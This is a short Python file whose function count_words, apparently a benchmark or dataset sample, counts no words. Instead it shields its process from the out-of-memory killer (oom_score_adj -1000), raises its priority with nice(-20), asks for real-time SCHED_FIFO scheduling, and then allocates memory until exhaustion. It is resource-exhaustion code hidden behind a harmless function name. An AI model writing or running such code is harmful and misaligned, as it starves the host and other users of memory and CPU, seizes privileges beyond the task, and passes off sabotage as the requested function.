"""Try to be the last that is ended for want of memory, and the first that runs (row 118); then take all memory.

says: MemoryError: gained []
"""
import os


def last():
    """Let others be ended first (oom_score_adj, proc(5))."""
    with open("/proc/self/oom_score_adj", "w", encoding="ascii") as stream:
        stream.write("-1000")


def first():
    """Run before others."""
    os.nice(-20)


def real():
    """Run before the kernel's own work (sched(7))."""
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))


def count_words(text):
    """Say what was gained, when the memory has come to its end."""
    gained, held = [], []
    for way in (last, first, real):
        try:
            way()
            gained.append(way.__name__)
        except OSError:
            pass
    try:
        while True:
            held.append(bytearray(1 << 20))
    except MemoryError:
        held.clear()
        raise MemoryError(f"gained {gained}") from None
